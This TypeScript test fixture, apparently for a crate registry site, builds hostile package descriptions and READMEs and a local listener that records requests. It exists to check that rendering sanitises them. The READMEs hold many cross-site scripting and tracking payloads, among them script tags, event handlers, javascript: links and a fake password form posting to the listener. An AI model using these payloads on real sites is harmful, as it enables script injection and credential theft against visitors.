import { readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { cleanUpLater } from './lifetime.ts';
import { checkout } from './paths.ts';
import type { Crate } from './populated-crates.ts';

/** A place of the attacker, that counts who comes. */
export interface Witness {
  url: string;
  visits: string[];
}

export async function useWitness(): Promise<Witness> {
  const visits: string[] = [];
  const server = createServer((request, response) => {
    visits.push(request.url ?? '');
    response.end('seen');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  cleanUpLater(
    () =>
      new Promise((resolve) => {
        server.close(resolve);
        server.closeAllConnections();
      }),
  );
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, visits };
}

/** What would run, if anything did. */
const RUN = 'globalThis.pwned=1;alert(1)';
/** What may stand in every text that is no Markdown. */
export const MARKUP = `<img src=x onerror="${RUN}"><script>${RUN}</script>`;

const vectors = readFileSync(join(checkout, 'tests/vectors/readme/hostile.txt'), 'utf8')
  .split('\n')
  .filter((line) => line !== '' && !line.startsWith('#'))
  .map((line) => line.replaceAll('\\n', '\n').replaceAll('\\t', '\t').replaceAll('\\0', ''));

/** By whom wants to run something in, or learn something of, the browser of whoever looks. */
export function hostileCrates({ url }: Witness): Crate[] {
  const crate = {
    name: 'hostile',
    description: `A parser ${MARKUP} of things`,
    repository: `${url}/"onmouseover="${RUN}`,
    keywords: ['parser'],
  };
  return [
    { ...crate, version: '1.0.0', readme: direct(url) },
    { ...crate, version: '2.0.0', readme: `# All of them\n\n${vectors.join('\n\n')}` },
    { ...crate, version: '3.0.0', readme: `# Huge\n\n${'Long'.repeat(100_000)}\n` },
  ];
}

const direct = (url: string): string => `# A hostile crate

<script>${RUN}</script>
<script src="${url}/script.js"></script>
<img src="x" onerror="${RUN}">
<svg onload="${RUN}"><image href="${url}/svg.png"/></svg>
<iframe src="${url}/frame" srcdoc="<script>parent.pwned=1</script>"></iframe>
<object data="${url}/object"></object><embed src="${url}/embed">
<style>@import "${url}/style.css"; body { background: url(${url}/background.png) }</style>
<link rel="stylesheet" href="${url}/link.css"><base href="${url}/"><meta http-equiv="refresh" content="0; url=${url}/refresh">
<form action="${url}/form"><input name="password" autofocus onfocus="${RUN}"><button>Sign in</button></form>
<video src="${url}/video" poster="${url}/poster.png" autoplay></video>
<picture><source srcset="${url}/source.png"><img src="${url}/picture.png" srcset="${url}/set.png 2x" alt="A picture in a picture"></picture>
<table background="${url}/table.png"><tr><td style="background:url(${url}/cell.png)">cell</td></tr></table>
<p id="app" class="button danger" style="position:fixed;inset:0">over everything</p>

[A script](javascript:${RUN}) and [another](data:text/html,<script>${RUN}</script>)

![The launch pad](${url}/pad.png) [![A badge](${url}/badge.svg)](https://example.com/build)

[Down](#the-end)

## The end

That was all.
`;
